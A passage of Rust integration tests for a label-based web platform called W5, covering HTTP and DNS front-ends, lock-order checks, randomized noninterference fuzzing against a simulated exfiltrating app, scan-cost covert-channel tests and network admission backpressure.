        Bytes::new(),
    );
    assert_eq!(b.invoke(Some(&stranger), "devA/photos", req).status, 403);

    // B-side policy governs B-side exports: a public-read grant on B opens
    // the mirrored copy without touching A.
    b.policies.grant_declassifier(
        u0_b.id,
        "public-read",
        GrantScope::App("devA/photos".into()),
    );
    let req = Platform::make_request(
        "GET",
        "view",
        &[("user", u0.username.as_str()), ("name", "photo0")],
        Some(&stranger),
        Bytes::new(),
    );
    assert_eq!(b.invoke(Some(&stranger), "devA/photos", req).status, 200);

    // Users who did not opt in never crossed the wire.
    let u1 = &world.accounts[1];
    let link1 = AccountLink { remote_user: u1.username.clone(), local_user: u1.username.clone() };
    assert!(agent.pull(server.addr(), &link1).is_err());

    server.shutdown();
}
