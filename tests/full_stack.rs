//! Whole-system integration over real HTTP: a populated world, the
//! generated workload mix, catalogs, policy routes, concurrent clients
//! and accounting consistency.

use std::sync::Arc;
use w5_net::{HttpClient, Server, ServerConfig, Status};
use w5_platform::{Gateway, Platform, SESSION_COOKIE};
use w5_sim::workload::{generate, MixWeights};
use w5_sim::{build_population, PopulationConfig};

fn login(client: &HttpClient, addr: std::net::SocketAddr, user: &str) -> String {
    let body = format!("user={user}&password=pw");
    let resp = client
        .post(addr, "/login", "application/x-www-form-urlencoded", body.as_bytes())
        .unwrap();
    assert_eq!(resp.status, Status::OK);
    let c = w5_platform::session_cookie_of(&resp).unwrap();
    format!("{}={}", SESSION_COOKIE, c.value)
}

#[test]
fn workload_over_http_is_consistent() {
    let world = build_population(
        Platform::new_default("fullstack"),
        PopulationConfig { users: 12, ..Default::default() },
    );
    let platform = Arc::clone(&world.platform);
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();
    let client = HttpClient::new();

    let cookies: Vec<String> = world
        .accounts
        .iter()
        .map(|a| login(&client, addr, &a.username))
        .collect();

    let before = platform.stats.invocations.load(std::sync::atomic::Ordering::Relaxed);
    let reqs = generate(&world, MixWeights::default(), 300, 5);
    let (mut ok, mut forbidden) = (0u32, 0u32);
    for r in &reqs {
        let qs: String = r
            .params
            .iter()
            .map(|(k, v)| format!("{k}={}", v.replace(' ', "+")))
            .collect::<Vec<_>>()
            .join("&");
        let path = if qs.is_empty() {
            format!("/app/{}/{}", r.app, r.action)
        } else {
            format!("/app/{}/{}?{qs}", r.app, r.action)
        };
        let headers = [("cookie", cookies[r.viewer].as_str())];
        let resp = if r.method == "GET" {
            client.get_with_headers(addr, &path, &headers).unwrap()
        } else {
            client
                .post_with_headers(addr, &path, "application/x-www-form-urlencoded", b"", &headers)
                .unwrap()
        };
        match resp.status.0 {
            200 => ok += 1,
            403 => forbidden += 1,
            other => panic!("unexpected status {other} for {path}"),
        }
    }
    assert_eq!(ok + forbidden, 300);
    assert!(ok > 150, "most of the friendly mix should succeed: ok={ok}");
    let after = platform.stats.invocations.load(std::sync::atomic::Ordering::Relaxed);
    assert_eq!(after - before, 300, "every HTTP request became exactly one app launch");
    // No kernel process leaks: every instance was reaped.
    assert_eq!(platform.kernel.live_processes(), 0);

    server.shutdown();
}

#[test]
fn concurrent_http_clients_share_one_platform() {
    let world = build_population(
        Platform::new_default("concurrent"),
        PopulationConfig { users: 8, ..Default::default() },
    );
    let platform = Arc::clone(&world.platform);
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();

    let handles: Vec<_> = (0..8)
        .map(|i| {
            let user = world.accounts[i].username.clone();
            std::thread::spawn(move || {
                let client = HttpClient::new();
                let cookie = login(&client, addr, &user);
                let headers = [("cookie", cookie.as_str())];
                for _ in 0..20 {
                    let resp = client
                        .get_with_headers(addr, &format!("/app/devA/photos/list?user={user}"), &headers)
                        .unwrap();
                    assert_eq!(resp.status.0, 200);
                }
            })
        })
        .collect();
    for h in handles {
        h.join().unwrap();
    }
    assert_eq!(server.requests_served(), 8 + 160); // logins + lists
    server.shutdown();
}

#[test]
fn catalog_and_policy_routes_roundtrip() {
    let world = build_population(
        Platform::new_default("routes"),
        PopulationConfig { users: 2, ..Default::default() },
    );
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&world.platform))),
    )
    .unwrap();
    let addr = server.addr();
    let client = HttpClient::new();
    let cookie = login(&client, addr, "user0");
    let auth = [("cookie", cookie.as_str())];

    // Registry JSON parses and contains the installed apps.
    let resp = client.get(addr, "/registry").unwrap();
    let apps: Vec<serde_json_value::Value> = parse_json_array(&resp.body_string());
    assert!(apps.len() >= 5);

    // Fork over HTTP.
    let resp = client
        .post_with_headers(addr, "/registry/fork", "application/x-www-form-urlencoded",
            b"source=devA/photos&developer=devQ&description=my+fork", &auth)
        .unwrap();
    assert_eq!(resp.status.0, 200, "{}", resp.body_string());
    assert!(world.platform.apps.latest("devQ/photos").is_some());

    // Policy read-back includes what population building granted.
    let resp = client.get_with_headers(addr, "/policy", &auth).unwrap();
    assert_eq!(resp.status.0, 200);
    let body = resp.body_string();
    assert!(body.contains("friends-only"), "{body}");
    assert!(body.contains("devA/photos"));

    // Module choice via HTTP is visible in resolved requests.
    let resp = client
        .post_with_headers(addr, "/policy/module", "application/x-www-form-urlencoded",
            b"app=devA/photos&slot=crop&developer=devB", &auth)
        .unwrap();
    assert_eq!(resp.status.0, 200);
    let account = world.platform.accounts.get_by_name("user0").unwrap();
    let policy = world.platform.policies.get(account.id);
    assert_eq!(
        policy.module_choices.get(&("devA/photos".to_string(), "crop".to_string())),
        Some(&"devB".to_string())
    );

    server.shutdown();
}

/// Tiny shim: we avoid a full JSON value dependency in tests by counting
/// top-level array elements structurally.
mod serde_json_value {
    pub type Value = ();
}

fn parse_json_array(s: &str) -> Vec<()> {
    // Count top-level objects in a JSON array — enough for the assertion.
    let mut depth = 0;
    let mut count = 0;
    let mut in_string = false;
    let mut escape = false;
    for c in s.chars() {
        if escape {
            escape = false;
            continue;
        }
        match c {
            '\\' if in_string => escape = true,
            '"' => in_string = !in_string,
            '{' if !in_string => {
                if depth == 1 {
                    count += 1;
                }
                depth += 1;
            }
            '}' if !in_string => depth -= 1,
            '[' if !in_string => depth += 1,
            ']' if !in_string => depth -= 1,
            _ => {}
        }
    }
    vec![(); count]
}

#[test]
fn dns_front_end_resolves_hosted_apps() {
    // §2: "all of W5 should have DNS and HTTP front-ends". The provider
    // publishes a zone record per hosted application; a client resolves
    // the app's name, then speaks HTTP to the gateway — the whole
    // today's-web-client path.
    use std::net::Ipv4Addr;
    use w5_net::dns::{resolve, DnsServer, Zone};

    let world = build_population(
        Platform::new_default("dns-world"),
        PopulationConfig { users: 2, ..Default::default() },
    );
    let platform = Arc::clone(&world.platform);
    let http = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let gateway_ip = match http.addr().ip() {
        std::net::IpAddr::V4(ip) => ip,
        other => panic!("expected v4, got {other}"),
    };

    // Publish every app in the catalog into the zone.
    let zone = Arc::new(Zone::new());
    let keys: Vec<String> = platform.apps.list().iter().map(|m| m.key()).collect();
    zone.publish_apps(keys.iter().map(String::as_str), "w5.example", gateway_ip);
    assert!(zone.len() > 5);
    let dns = DnsServer::start("127.0.0.1:0", Arc::clone(&zone)).unwrap();

    // Resolve the photo app's name…
    let ips = resolve(dns.addr(), "photos.devA.w5.example").unwrap().unwrap();
    assert_eq!(ips, vec![Ipv4Addr::new(127, 0, 0, 1)]);
    // …and use the answer to reach the gateway.
    let target = std::net::SocketAddr::from((ips[0], http.addr().port()));
    let client = HttpClient::new();
    let resp = client.get(target, "/registry").unwrap();
    assert_eq!(resp.status.0, 200);
    assert!(resp.body_string().contains("devA"));

    // Unknown apps are NXDOMAIN.
    assert_eq!(resolve(dns.addr(), "ghost.devZ.w5.example").unwrap(), None);

    dns.shutdown();
    http.shutdown();
}
