//! Cross-crate lock-order certification: the declared workspace manifest
//! is self-consistent, a real platform workload's observed order graph
//! certifies against it, and a deliberately inverted fixture is caught
//! as a W5D001 cycle with a readable path.

use std::sync::Arc;
use w5_lockdep::{analyze, analyze_manifest, Manifest, Severity};
use w5_sync::lockdep;

#[test]
fn workspace_manifest_is_clean() {
    let report = analyze_manifest(&Manifest::workspace());
    assert!(
        report.findings.is_empty(),
        "declared order must certify with zero findings:\n{}",
        report.render_human()
    );
    assert!(report.passes(Severity::Info));
}

#[test]
fn live_platform_workload_certifies_against_the_manifest() {
    // Drive a real multi-layer workload — kernel spawns and sends, store
    // queries, tag creation — under a scoped recorder, then require the
    // observed acquisition graph to certify at `warning`: not even an
    // unannotated-ledger or undeclared-class finding may appear.
    use bytes::Bytes;
    use w5_difc::{CapSet, LabelPair, TagKind, TagRegistry};
    use w5_kernel::{Kernel, ResourceLimits, SpawnSpec};

    let rec = Arc::new(lockdep::Recorder::new());
    let run = {
        let _scope = lockdep::scoped(Arc::clone(&rec));
        let k = Kernel::with_shards(4, Arc::new(TagRegistry::new()));
        let mk = |name: &str| {
            k.create_process(
                name,
                LabelPair::public(),
                CapSet::empty(),
                ResourceLimits::unlimited(),
            )
        };
        let a = mk("a");
        let b = mk("b");
        k.create_tag(a, TagKind::ExportProtect, "export:a").unwrap();
        for _ in 0..16 {
            k.send_strict(a, b, Bytes::from_static(b"m"), CapSet::empty()).unwrap();
            k.send_strict(b, a, Bytes::from_static(b"r"), CapSet::empty()).unwrap();
        }
        k.spawn(
            a,
            SpawnSpec {
                name: "child".into(),
                labels: LabelPair::public(),
                grant: CapSet::empty(),
                limits: ResourceLimits::sandbox_default(),
            },
        )
        .unwrap();

        let db = w5_store::Database::new();
        let subject = w5_store::Subject::anonymous();
        let exec = |sql: &str| {
            db.execute(
                &subject,
                w5_store::QueryMode::Filtered,
                w5_store::QueryCost::unlimited(),
                &LabelPair::public(),
                sql,
            )
            .unwrap()
        };
        exec("CREATE TABLE t (id INTEGER, body TEXT)");
        exec("INSERT INTO t (id, body) VALUES (1, 'x'), (2, 'y')");
        exec("SELECT * FROM t WHERE id = 1");
        rec.snapshot()
    };

    assert!(!run.edges.is_empty() || !run.same_class.is_empty(), "workload recorded nothing");
    let report = analyze(&Manifest::workspace(), &run);
    assert!(
        report.passes(Severity::Warning),
        "live workload order graph must certify:\n{}",
        report.render_human()
    );
}

#[test]
fn inverted_fixture_is_a_w5d001_cycle_with_readable_path() {
    let rec = Arc::new(lockdep::Recorder::new());
    let run = {
        let _scope = lockdep::scoped(Arc::clone(&rec));
        let alpha = w5_sync::Mutex::new("fixture.alpha", ());
        let beta = w5_sync::Mutex::new("fixture.beta", ());
        {
            let _a = alpha.lock();
            let _b = beta.lock();
        }
        {
            let _b = beta.lock();
            let _a = alpha.lock();
        }
        rec.snapshot()
    };
    let report = analyze(&Manifest::workspace(), &run);
    assert!(!report.passes(Severity::Error), "inverted fixture must fail the gate");
    let cycle = report
        .findings
        .iter()
        .find(|f| f.code == "W5D001")
        .expect("W5D001 finding present");
    for needle in ["fixture.alpha", "fixture.beta", "-> back to", "tests/lockdep.rs"] {
        assert!(
            cycle.message.contains(needle),
            "cycle path should contain {needle:?}: {}",
            cycle.message
        );
    }
}
