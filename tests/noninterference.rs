//! Randomized noninterference check — the strongest claim the platform
//! makes, fuzzed end to end.
//!
//! Every user's data contains a unique sentinel string. A randomized
//! driver performs thousands of actions (uploads, posts, reads, digests,
//! malicious exfiltration attempts, policy changes) as random users, and
//! after *every* delivered response asserts the core invariant:
//!
//! > a response handed to viewer V may contain user U's sentinel only if
//! > V == U, or U's policy at this moment grants a declassifier that
//! > clears V for the producing application.
//!
//! The perimeter decides with labels, not by string matching, so this test
//! checks the mechanism against an independent oracle.

use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use w5_platform::{Account, GrantScope, Platform};

const USERS: usize = 6;

struct Oracle {
    /// (owner, app) → friends-only granted.
    friends_only: Vec<Vec<bool>>, // [owner][app]
    /// (owner, app) → public-read granted.
    public_read: Vec<Vec<bool>>,
    /// friendship matrix [owner][viewer].
    friends: Vec<Vec<bool>>,
}

const APPS: [&str; 4] = ["devA/photos", "devB/blog", "mal/exfiltrator", "devD/recommender"];

impl Oracle {
    fn new() -> Oracle {
        Oracle {
            friends_only: vec![vec![false; APPS.len()]; USERS],
            public_read: vec![vec![false; APPS.len()]; USERS],
            friends: vec![vec![false; USERS]; USERS],
        }
    }

    /// May `viewer` see `owner`'s data through `app_ix`, per policy?
    fn allowed(&self, owner: usize, viewer: usize, app_ix: usize) -> bool {
        if owner == viewer {
            return true;
        }
        if self.public_read[owner][app_ix] {
            return true;
        }
        self.friends_only[owner][app_ix] && self.friends[owner][viewer]
    }
}

fn sentinel(u: usize) -> String {
    format!("SENTINEL-{u}-SECRET-PAYLOAD")
}

#[test]
fn randomized_noninterference() {
    let p = Platform::new_default("fuzz");
    w5_apps::install_all(&p);
    let accounts: Vec<Account> = (0..USERS)
        .map(|i| p.accounts.register(&format!("user{i}"), "pw").unwrap())
        .collect();
    for a in &accounts {
        for app in APPS {
            p.policies.delegate_write(a.id, app);
        }
    }
    // Every user stores their sentinel as a blog post and as a file.
    for (i, a) in accounts.iter().enumerate() {
        let req = Platform::make_request(
            "POST",
            "post",
            &[("title", "diary"), ("body", &sentinel(i))],
            Some(a),
            Bytes::new(),
        );
        assert_eq!(p.invoke(Some(a), "devB/blog", req).status, 200);
        // A sentinel-bearing file too, for the exfiltrator to aim at.
        let subject = w5_store::Subject::new(
            w5_difc::LabelPair::public(),
            p.registry.effective(&a.owner_caps),
        );
        p.fs.create(
            &subject,
            &format!("/photos/{}/x", a.username),
            a.data_labels(),
            Bytes::from(sentinel(i)),
        )
        .unwrap();
    }

    let mut oracle = Oracle::new();
    let mut rng = StdRng::seed_from_u64(20070824);
    let mut delivered = 0u32;
    let mut blocked = 0u32;

    for step in 0..3000 {
        match rng.gen_range(0..10) {
            // Policy mutations.
            0 => {
                let owner = rng.gen_range(0..USERS);
                let app_ix = rng.gen_range(0..APPS.len());
                p.policies.grant_declassifier(
                    accounts[owner].id,
                    "friends-only",
                    GrantScope::App(APPS[app_ix].into()),
                );
                oracle.friends_only[owner][app_ix] = true;
            }
            1 => {
                let owner = rng.gen_range(0..USERS);
                let app_ix = rng.gen_range(0..APPS.len());
                p.policies.grant_declassifier(
                    accounts[owner].id,
                    "public-read",
                    GrantScope::App(APPS[app_ix].into()),
                );
                oracle.public_read[owner][app_ix] = true;
            }
            2 => {
                // Revocation: drop all grants for one user (perimeter must
                // respect it immediately).
                let owner = rng.gen_range(0..USERS);
                p.policies.revoke_declassifier(accounts[owner].id, "friends-only");
                p.policies.revoke_declassifier(accounts[owner].id, "public-read");
                for x in 0..APPS.len() {
                    oracle.friends_only[owner][x] = false;
                    oracle.public_read[owner][x] = false;
                }
            }
            3 => {
                let owner = rng.gen_range(0..USERS);
                let viewer = rng.gen_range(0..USERS);
                if owner != viewer && !oracle.friends[owner][viewer] {
                    p.add_friend(&accounts[owner].username, &accounts[viewer].username);
                    oracle.friends[owner][viewer] = true;
                }
            }
            // Reads through honest and malicious apps.
            _ => {
                let owner = rng.gen_range(0..USERS);
                let viewer = rng.gen_range(0..USERS);
                let (app_ix, action, params): (usize, &str, Vec<(String, String)>) =
                    match rng.gen_range(0..3) {
                        0 => (
                            1,
                            "read",
                            vec![
                                ("user".into(), accounts[owner].username.clone()),
                                ("title".into(), "diary".into()),
                            ],
                        ),
                        1 => (
                            2,
                            "steal",
                            vec![("path".into(), format!("/photos/{}/x", accounts[owner].username))],
                        ),
                        _ => (
                            1,
                            "list",
                            vec![("user".into(), accounts[owner].username.clone())],
                        ),
                    };
                let param_refs: Vec<(&str, &str)> =
                    params.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
                let req = Platform::make_request(
                    "GET",
                    action,
                    &param_refs,
                    Some(&accounts[viewer]),
                    Bytes::new(),
                );
                let r = p.invoke(Some(&accounts[viewer]), APPS[app_ix], req);
                if r.status == 200 {
                    delivered += 1;
                    let body = String::from_utf8_lossy(&r.body);
                    for u in 0..USERS {
                        if body.contains(&sentinel(u)) {
                            assert!(
                                oracle.allowed(u, viewer, app_ix),
                                "step {step}: viewer {viewer} received user {u}'s sentinel via \
                                 {} without authorization",
                                APPS[app_ix]
                            );
                        }
                    }
                } else if r.status == 403 {
                    blocked += 1;
                    assert!(
                        !String::from_utf8_lossy(&r.body).contains("SENTINEL"),
                        "step {step}: denial body leaked a sentinel"
                    );
                }
            }
        }
    }
    // Sanity: the fuzz actually exercised both outcomes.
    assert!(delivered > 100, "delivered={delivered}");
    assert!(blocked > 100, "blocked={blocked}");

    // And fault reports never leaked a sentinel either.
    for report in p.fault_reports() {
        if let Some(d) = &report.detail {
            assert!(!d.contains("SENTINEL"), "fault report leaked: {d}");
        }
    }
}

mod scan_cost {
    //! Noninterference for the *cost* channel of the partitioned store.
    //!
    //! `QueryOutput::scanned` is observable (the platform charges CPU by
    //! it) and a `BudgetExhausted` verdict even more so. Partition
    //! pruning must therefore charge a flat one unit per unreadable
    //! partition, never a function of how many rows hide inside. These
    //! tests difference two worlds that are identical except for the
    //! *size* of a hidden partition and demand bit-identical costs and
    //! verdicts for a subject that cannot read it.

    use std::sync::Arc;
    use w5_difc::{CapSet, Label, LabelPair, TagKind, TagRegistry};
    use w5_store::{Database, QueryCost, QueryError, QueryMode, Subject};

    const VISIBLE: usize = 500;

    /// A world with 500 public rows and `hidden` rows in one secret
    /// partition the returned stranger cannot read.
    fn world(hidden: usize) -> (Database, Subject) {
        let reg = Arc::new(TagRegistry::new());
        let (e, owner_caps) = reg.create_tag(TagKind::ReadProtect, "ni:hidden");
        let owner = Subject::new(LabelPair::public(), reg.effective(&owner_caps));
        let secret = LabelPair::new(Label::singleton(e), Label::empty());
        let db = Database::new();
        db.execute(
            &owner,
            QueryMode::Filtered,
            QueryCost::unlimited(),
            &LabelPair::public(),
            "CREATE TABLE inbox (id INTEGER, body TEXT)",
        )
        .unwrap();
        db.create_index("inbox", "id").unwrap();
        let fill = |labels: &LabelPair, n: usize, base: usize| {
            for chunk_start in (0..n).step_by(100) {
                let values: Vec<String> = (chunk_start..(chunk_start + 100).min(n))
                    .map(|i| format!("({}, 'm{}')", base + i, base + i))
                    .collect();
                db.execute(
                    &owner,
                    QueryMode::Filtered,
                    QueryCost::unlimited(),
                    labels,
                    &format!("INSERT INTO inbox VALUES {}", values.join(",")),
                )
                .unwrap();
            }
        };
        fill(&LabelPair::public(), VISIBLE, 0);
        fill(&secret, hidden, VISIBLE);
        let stranger = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));
        (db, stranger)
    }

    /// Whatever the stranger runs — scans, indexed lookups, aggregates,
    /// writes — a 20 000-row hidden partition must cost exactly what a
    /// 1-row one does, and produce the same rows.
    #[test]
    fn hidden_partition_size_never_shows_in_scan_costs() {
        let (small, stranger_s) = world(1);
        let (big, stranger_b) = world(20_000);
        // Read-only first, state-mutating last: both worlds mutate only
        // visible rows, so they stay comparable throughout.
        let queries = [
            "SELECT COUNT(*) FROM inbox",
            "SELECT id, body FROM inbox WHERE id = 7",
            "SELECT id FROM inbox WHERE id >= 10 AND id < 20 ORDER BY id",
            "SELECT id FROM inbox ORDER BY id DESC LIMIT 5",
            "UPDATE inbox SET body = 'seen' WHERE id = 3",
            "DELETE FROM inbox WHERE id = 499",
        ];
        for sql in queries {
            let a = small
                .execute(&stranger_s, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(), sql)
                .unwrap();
            let b = big
                .execute(&stranger_b, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(), sql)
                .unwrap();
            assert_eq!(a.rows, b.rows, "{sql}: rows depend on hidden partition size");
            assert_eq!(a.affected, b.affected, "{sql}: affected depends on hidden size");
            assert_eq!(a.scanned, b.scanned, "{sql}: scan cost leaks hidden partition size");
        }
    }

    /// The budget verdict itself must also be size-invariant: sweep the
    /// budget across the visibility boundary (500 visible rows + 1 flat
    /// skip charge) and require identical outcomes in both worlds.
    #[test]
    fn budget_exhaustion_verdicts_are_hidden_size_invariant() {
        let (small, stranger_s) = world(1);
        let (big, stranger_b) = world(20_000);
        for budget in [1u64, 100, 499, 500, 501, 502, 600] {
            let cost = QueryCost { max_rows_scanned: budget };
            let a = small.execute(&stranger_s, QueryMode::Filtered, cost, &LabelPair::public(), "SELECT COUNT(*) FROM inbox");
            let b = big.execute(&stranger_b, QueryMode::Filtered, cost, &LabelPair::public(), "SELECT COUNT(*) FROM inbox");
            assert_eq!(a, b, "budget {budget}: verdict depends on hidden partition size");
        }
        // Sanity: the sweep actually crosses the boundary — tight budgets
        // abort, generous ones succeed.
        let tight = QueryCost { max_rows_scanned: 1 };
        assert_eq!(
            small.execute(&stranger_s, QueryMode::Filtered, tight, &LabelPair::public(), "SELECT COUNT(*) FROM inbox"),
            Err(QueryError::BudgetExhausted),
        );
    }

    /// Contrast: `Naive` mode *is* the covert channel (paper §3.5, E9) —
    /// there the cost difference is plainly visible. This pins that the
    /// equality above is a property of `Filtered`, not of an insensitive
    /// test.
    #[test]
    fn naive_mode_still_exposes_the_channel() {
        let (small, stranger_s) = world(1);
        let (big, stranger_b) = world(20_000);
        let a = small
            .execute(&stranger_s, QueryMode::Naive, QueryCost::unlimited(), &LabelPair::public(), "SELECT COUNT(*) FROM inbox")
            .unwrap();
        let b = big
            .execute(&stranger_b, QueryMode::Naive, QueryCost::unlimited(), &LabelPair::public(), "SELECT COUNT(*) FROM inbox")
            .unwrap();
        assert!(
            b.scanned > a.scanned,
            "naive mode should visit hidden rows ({} vs {})",
            b.scanned,
            a.scanned
        );
    }
}

mod concurrent_kernel {
    //! The same noninterference discipline, exercised directly against
    //! the sharded kernel under real thread interleavings.
    //!
    //! Seeding is `--test-threads`-independent: every outcome below is a
    //! pure function of the literal seeds — worker counts and schedules
    //! come from the spec, never from how the test binary is scheduled.

    use bytes::Bytes;
    use std::sync::Arc;
    use w5_difc::{CapSet, Capability, Label, LabelPair, TagKind, TagRegistry};
    use w5_kernel::{Delivery, Kernel, ProcessId, ResourceLimits};
    use w5_sim::concurrency::{run_reference_serial, run_sharded_concurrent, ConcSpec};

    /// The platform-level invariant, restated for raw kernel IPC: a
    /// message from a tainted sender reaches an unlabeled receiver only
    /// if the sender holds the declassification privilege. Hammered from
    /// many threads at once, the sharded kernel must never deliver one.
    #[test]
    fn tainted_sends_never_reach_public_sinks_under_contention() {
        let k = Kernel::new(Arc::new(TagRegistry::new()));
        let owner = k.create_process(
            "owner",
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits::unlimited(),
        );
        let e = k.create_tag(owner, TagKind::ExportProtect, "ni:conc").unwrap();
        let secret = LabelPair::new(Label::singleton(e), Label::empty());

        const THREADS: usize = 8;
        const SENDS: usize = 500;
        std::thread::scope(|s| {
            for t in 0..THREADS {
                let k = k.clone();
                let secret = secret.clone();
                s.spawn(move || {
                    // Each worker owns one tainted source (no `e-`) and
                    // one public sink; the only cross-worker pressure is
                    // shard-lock contention — which must not change a
                    // single verdict.
                    let src = k.create_process(
                        &format!("src{t}"),
                        secret.clone(),
                        CapSet::empty(),
                        ResourceLimits::unlimited(),
                    );
                    let sink: ProcessId = k.create_process(
                        &format!("sink{t}"),
                        LabelPair::public(),
                        CapSet::empty(),
                        ResourceLimits::unlimited(),
                    );
                    for i in 0..SENDS {
                        let d = k
                            .send(src, sink, Bytes::from_static(b"SENTINEL"), CapSet::empty())
                            .unwrap();
                        assert_eq!(d, Delivery::Dropped, "worker {t} send {i} leaked");
                    }
                    assert!(k.recv(sink).unwrap().is_none(), "sink {t} mailbox not empty");
                    // Grant the declassifier and the same flow opens —
                    // the drops above were policy, not lossage.
                    let mut minus = CapSet::empty();
                    minus.insert(Capability::minus(e));
                    k.grant_caps(src, &minus).unwrap();
                    let d = k
                        .send(src, sink, Bytes::from_static(b"ok"), CapSet::empty())
                        .unwrap();
                    assert_eq!(d, Delivery::Delivered, "worker {t}: declassified send dropped");
                });
            }
        });
        let stats = k.stats();
        assert_eq!(stats.sends_dropped, (THREADS * SENDS) as u64);
        assert_eq!(stats.sends_checked, (THREADS * (SENDS + 1)) as u64);
    }

    /// The randomized differential workload's verdicts — which processes
    /// ended tainted, which declassifications were denied, which flows
    /// were dropped — must match the single-lock serial oracle for fixed
    /// seeds, however the OS schedules the workers.
    #[test]
    fn concurrent_verdicts_match_serial_oracle() {
        for seed in [20070824u64, 5, 77] {
            let spec = ConcSpec { seed, threads: 4, ops_per_thread: 200, fault_rate: 0.04, shards: 16 };
            let (oracle, _) = run_reference_serial(&spec);
            let live = run_sharded_concurrent(&spec);
            assert_eq!(
                oracle, live,
                "seed {seed}: concurrent noninterference verdicts diverged from the oracle"
            );
            assert!(live.stats.sends_dropped > 0, "seed {seed}: workload never denied a flow");
        }
    }
}

mod net_admission {
    //! Noninterference at the front door: the staged pipeline's
    //! backpressure surface (shed verdicts, `Retry-After` hints, quota
    //! refusals) must reveal nothing about *other* principals' traffic.
    //!
    //! The sharpest channel a bounded queue could open is the retry
    //! hint: if `Retry-After` were computed from global queue state, a
    //! low-clearance client could poll its own sheds to watch a hidden
    //! user's burst arrive. The pipeline therefore derives it from the
    //! shedding class's *own* depth and static pool geometry only —
    //! differenced here across two worlds that disagree solely about a
    //! hidden class's backlog.

    use std::net::SocketAddr;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::mpsc::{sync_channel, Receiver, SyncSender};
    use std::sync::Arc;
    use std::thread;
    use std::time::Duration;
    use w5_kernel::ResourceLimits;
    use w5_net::{
        Admission, ChargeDenied, ChargePoint, Handler, Pipeline, PipelineConfig, PrincipalClass,
        Request, Response,
    };
    use w5_platform::{FaultKind, Gateway, NetAdmission, Platform};
    use w5_sync::Mutex;

    fn peer() -> SocketAddr {
        "127.0.0.1:4100".parse().unwrap()
    }

    fn poll_until(mut cond: impl FnMut() -> bool, what: &str) {
        for _ in 0..2000 {
            if cond() {
                return;
            }
            thread::sleep(Duration::from_millis(1));
        }
        panic!("timed out waiting for {what}");
    }

    /// The full §3.5 path, socket framing aside: pipeline admission →
    /// kernel resource container → 429 with a labeled fault-report body,
    /// with the same report retained for developers in the platform's
    /// fault log — and the store untouched by the refused request.
    #[test]
    fn network_quota_refusal_is_a_429_fault_report_end_to_end() {
        let platform = Platform::new_default("ni-net");
        let limits = ResourceLimits { network_bytes: 700, ..ResourceLimits::unlimited() };
        let admission = NetAdmission::new(Arc::clone(&platform), limits, 0);
        let gateway: Arc<dyn Handler> = Arc::new(Gateway::new(Arc::clone(&platform)));
        let pipeline = Pipeline::start(
            PipelineConfig { workers: 2, shards: 1, ..PipelineConfig::default() },
            gateway,
            admission,
        );

        // /registry is 74 request-charge bytes per hit (path + flat
        // per-request overhead), plus the response body; the 700-byte
        // container admits the first request and starves soon after.
        let mut saw_ok = false;
        let mut denial = None;
        for _ in 0..32 {
            let resp = pipeline.submit(Request::get("/registry"), peer());
            match resp.status.0 {
                200 => saw_ok = true,
                429 => {
                    denial = Some(resp);
                    break;
                }
                other => panic!("unexpected status {other} before quota exhaustion"),
            }
        }
        let denial = denial.expect("container must eventually refuse");
        assert!(saw_ok, "the first request must fit the budget");
        let retry: u64 = denial.header("retry-after").expect("429 carries Retry-After").parse().unwrap();
        assert!(retry >= 1);
        let body = String::from_utf8_lossy(&denial.body);
        assert!(
            body.contains("fault app=net/anon kind=quota-exceeded"),
            "429 body must be the labeled fault report, got: {body}"
        );
        let faults = platform.fault_reports();
        assert!(
            faults.iter().any(|f| f.app == "net/anon" && f.kind == FaultKind::QuotaExceeded),
            "the same report must be retained for the developer log"
        );
        assert_eq!(pipeline.stats.snapshot().quota_denied, 1);
        pipeline.stop();
    }

    /// Classifies by the first path segment and never charges — the
    /// harness needs exact control over which queue each request joins.
    struct ByFirstSegment;

    impl Admission for ByFirstSegment {
        fn classify(&self, request: &Request, _peer: SocketAddr) -> PrincipalClass {
            let seg = request.path.split('/').find(|s| !s.is_empty()).unwrap_or("");
            PrincipalClass::App(seg.to_string())
        }

        fn charge(
            &self,
            _class: &PrincipalClass,
            _point: ChargePoint,
            _bytes: u64,
        ) -> Result<(), ChargeDenied> {
            Ok(())
        }
    }

    /// Requests to `/gate/…` park on a rendezvous until released; all
    /// other requests answer immediately.
    struct GatedHandler {
        gate: Mutex<Option<Receiver<()>>>,
        held: AtomicUsize,
    }

    impl GatedHandler {
        fn new() -> (Arc<GatedHandler>, SyncSender<()>) {
            let (tx, rx) = sync_channel::<()>(64);
            let h = Arc::new(GatedHandler {
                gate: Mutex::new("test.ni.gate", Some(rx)),
                held: AtomicUsize::new(0),
            });
            (h, tx)
        }
    }

    impl Handler for GatedHandler {
        fn handle(&self, request: Request, _peer: SocketAddr) -> Response {
            if request.path.starts_with("/gate/") {
                self.held.fetch_add(1, Ordering::SeqCst);
                // Hold the worker until the test releases one token.
                let rx = self.gate.lock().take().expect("one gated request at a time");
                rx.recv().ok();
                *self.gate.lock() = Some(rx);
                self.held.fetch_sub(1, Ordering::SeqCst);
            }
            Response::text("ok")
        }
    }

    /// One world: a single parked worker, `hidden_backlog` queued
    /// requests for a hidden class, then the honest class filled to its
    /// own limit and pushed one past it. Returns the honest overflow's
    /// (status, Retry-After) — the complete backpressure observable.
    fn honest_shed_observable(hidden_backlog: usize) -> (u16, u64) {
        const DEPTH: usize = 2;
        let (handler, release) = GatedHandler::new();
        let pipeline = Pipeline::start(
            PipelineConfig {
                workers: 1,
                shards: 1,
                queue_depth: DEPTH,
                retry_after_floor: 1,
                ..PipelineConfig::default()
            },
